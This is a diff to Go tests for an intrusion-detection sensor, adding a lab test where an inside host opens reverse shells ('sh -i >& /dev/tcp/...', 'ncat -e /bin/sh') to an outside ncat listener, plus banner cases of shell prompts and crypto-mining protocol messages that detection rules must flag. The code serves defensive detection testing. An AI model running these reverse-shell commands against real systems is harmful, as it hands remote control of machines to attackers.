@@ -247,11 +247,11 @@ func writeScenario(t *testing.T, pack, name, prefix string, evs []event.Event) {
 }
 
 // TestReverseShellLive: an outside host listens with ncat; inside, bash
-// connects to it with an interactive shell (bash -i >& /dev/tcp/...), and
-// ncat -e /bin/sh connects to another port. The sensor keeps bash's
-// complaints without a terminal and the output of id, from the connecting
-// side; the gateway pack reports a reverse shell for each, about the
-// inside host.
+// connects to it with an interactive shell (bash -i >& /dev/tcp/...), sh
+// -i to another port, and ncat -e /bin/sh to a third. The sensor keeps
+// bash's and sh's complaints without a terminal and the output of id,
+// from the connecting side; the gateway pack reports a reverse shell for
+// each, about the inside host.
 func TestReverseShellLive(t *testing.T) {
 	needTools(t, "ip", "nsenter", "ncat", "bash")
 	l := newEdgeLab(t)
@@ -267,6 +267,15 @@ func TestReverseShellLive(t *testing.T) {
 	if !strings.Contains(attacker.out.String(), "uid=") {
 		t.Fatalf("the shell did not answer id:\n%s", attacker.out.String())
 	}
+
+	// sh -i: the shell of /bin/sh (dash on Debian) complains that it has
+	// no terminal, its program name and line number first ("sh: 0: ").
+	attacker3 := l.run(t, l.out, 20*time.Second, dir, "ncat", "-l", "4446")
+	l.listening(t, l.out, 4446)
+	victim3 := l.run(t, l.in, 20*time.Second, dir, "bash", "-c", "sh -i >& /dev/tcp/"+outsideIP+"/4446 0>&1")
+	attacker3.say(time.Second, "id", "exit")
+	victim3.wait(t, 10*time.Second)
+	attacker3.wait(t, 10*time.Second)
 
 	attacker2 := l.run(t, l.out, 20*time.Second, dir, "ncat", "-l", "9001")
 	l.listening(t, l.out, 9001)
@@ -288,8 +297,11 @@ func TestReverseShellLive(t *testing.T) {
 	if !hasBanner(bs, "client", 9001, "uid=") {
 		t.Errorf("no banner of id's output from the connecting side: %q", bs)
 	}
+	if !hasBanner(bs, "client", 4446, "sh: ") {
+		t.Errorf("no banner of sh's complaint from the connecting side: %q", bs)
+	}
 	got, _ := packReports(t, "gateway.yaml", evs)
-	if want := []string{"reverse-shell " + insideIP, "reverse-shell " + insideIP}; !slices.Equal(got, want) {
+	if want := []string{"reverse-shell " + insideIP, "reverse-shell " + insideIP, "reverse-shell " + insideIP}; !slices.Equal(got, want) {
 		t.Errorf("gateway pack reports %q, want %q", got, want)
 	}
 	if *recordScenarios {
@@ -442,7 +454,7 @@ func TestSustainedCPUBurnLive(t *testing.T) {
 	if err := os.WriteFile(miner, b, 0o755); err != nil {
 		t.Fatal(err)
 	}
-	agent := start(t, "agent", "--stdout", "--interval", "500ms", "--window", "3", "--cpu-level", "20", "--cpu-level-for", "2s",
+	agent := start(t, "agent", "--stdout", "--interval", "500ms", "--window", "3", "--cpu-level", "10", "--cpu-level-for", "2s",
 		"--procs", "kdevtmpfsi,gzip", "--host-id", "build-2", "--ip", "10.0.0.41")
 	testutil.WaitFor(t, 10*time.Second, "the agent to run", func() bool { return strings.Contains(agent.out.String(), "host sensor running") })
 	burn := func(name string, args ...string) *exec.Cmd {
@@ -496,5 +508,63 @@ func TestSustainedCPUBurnLive(t *testing.T) {
 	}
 	if *recordScenarios {
 		writeScenario(t, "host", "sustained-cpu-burn", "scb-", evs)
+	}
+}
+
+// TestShellAndMiningBannerForms replays banners of the forms the pack's
+// shell and mining rules name, and of services that must not meet them,
+// through the gateway pack: each on its own port, so that every one is
+// judged alone.
+func TestShellAndMiningBannerForms(t *testing.T) {
+	cases := []struct{ from, banner, want string }{
+		{"client", `bash: no job control in this shell\n`, "reverse-shell"},
+		{"server", `sh: no job control in this shell\n`, "bind-shell"},
+		{"client", `/bin/sh: can't access tty; job control turned off\n`, "reverse-shell"},
+		{"client", `sh: 0: `, "reverse-shell"},
+		{"client", `sh-5.2$ `, "reverse-shell"},
+		{"server", `sh-5.2# `, "bind-shell"},
+		{"client", `bash-5.2# `, "reverse-shell"},
+		{"client", `$ `, "reverse-shell"},
+		{"server", `# `, "bind-shell"},
+		{"client", `root@web-3:/var/www/html# `, "reverse-shell"},
+		{"server", `www-data@web-3:~$ `, "bind-shell"},
+		{"client", `[root@db-1 ~]# `, "reverse-shell"},
+		{"server", `uid=33(www-data) gid=33(www-data) groups=33(www-data)\n`, "bind-shell"},
+		{"client", `Linux web-3 6.1.0-18-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.76-1`, "reverse-shell"},
+		{"client", `{"id": 1, "method": "mining.subscribe", "params": ["cpuminer/2.5`, "mining-protocol"},
+		{"client", `{"params": ["wallet.w1", "x"], "id": 2, "method": "mining.authorize"}`, "mining-protocol"},
+		{"client", `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"`, "mining-protocol"},
+		{"server", `{"id": 1, "result": [[["mining.set_difficulty", "b4b6693b72a50c7`, "mining-protocol"},
+		{"server", `{"id":null,"method":"mining.notify","params":["bf","4d16b6f85af6`, "mining-protocol"},
+		// Not shells, not mining.
+		{"server", `SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n`, ""},
+		{"client", `GET / HTTP/1.1\r\nHost: 10.0.0.7\r\n`, ""},
+		{"server", `220 mail.example.com ESMTP Postfix\r\n`, ""},
+		{"client", `id\n`, ""},
+		{"server", `$ENV{PATH} is not set\n`, ""},
+		{"client", `uid=abc`, ""},
+		{"client", `{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":1}`, ""},
+		{"client", `{"jsonrpc":"2.0","method":"login","params":{"user":"alice"}}`, ""},
+		{"server", `Welcome # to the service\r\n`, ""},
+	}
+	var evs []event.Event
+	base := time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC)
+	for i, tc := range cases {
+		evs = append(evs, event.Event{ID: fmt.Sprintf("bf-%02d", i), Time: base.Add(time.Duration(i) * time.Second), Type: "NET.BANNER",
+			IP: insideIP, Source: "gw-1", Attrs: map[string]any{
+				"banner": tc.banner, "from": tc.from, "bytes": int64(len(tc.banner)), "guess": "unknown", "proto": "tcp",
+				"src": outsideIP, "dst": insideIP, "sport": int64(40000 + i), "dport": int64(20000 + i), "direction": "inbound", "unassigned": true,
+			}})
+	}
+	_, reps := packReports(t, "gateway.yaml", evs)
+	fired := map[int][]string{}
+	for _, r := range reps {
+		p, _ := r.Attrs["dport"].(int64)
+		fired[int(p)-20000] = append(fired[int(p)-20000], r.Model)
+	}
+	for i, tc := range cases {
+		if got := strings.Join(fired[i], ","); got != tc.want {
+			t.Errorf("%s banner %q: rules %q, want %q", tc.from, tc.banner, got, tc.want)
+		}
 	}
 }
